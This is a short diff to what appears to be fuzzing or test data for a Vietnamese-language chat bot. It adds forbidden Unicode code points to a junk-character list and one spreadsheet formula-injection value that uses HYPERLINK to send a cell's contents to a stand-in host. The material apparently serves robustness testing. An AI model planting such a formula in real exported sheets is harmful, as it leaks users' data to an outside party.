@@ -106,7 +106,7 @@ HTML_LIKE = (
 EMOJI = ("😀", "👍🏽", "🎉", "🇻🇳", "👨‍👩‍👧", "❤️", "🍯", "🐟", "☕", "🌾")
 JUNK_ALPHABETS = (
     string.printable,
-    "\x00\x01\x07\x0b\x1b\x7f\u200b\u200e\u202e\ufeff\u2060",
+    "\x00\x01\x07\x0b\x1b\x7f\u200b\u200e\u202e\ufeff\u2060\ufffe\uffff",  # XML forbids most
     "ăâđêôơưáàảãạấầẩẫậếềểễệốồổỗộớờởỡợúùủũụứừửữựíìỉĩịýỳỷỹỵ",
     "ĂÂĐÊÔƠƯÁÀẢÃẠ",
     "\u0301\u0300\u0309\u0303\u0323",  # lone combining marks
@@ -150,6 +150,7 @@ MARKED_VALUES = (
     "Xóm 3, thôn {m}, xã Vạn Thắng",
     "Sản phẩm {m} đạt tiêu chuẩn",
     "Giò chả {m} &amp; <b>nem</b>",
+    '=HYPERLINK("http://x.example/?d="&B2,"{m}")',  # a formula, for the officers' sheets
 )
 COMMANDS = (
     "/start",
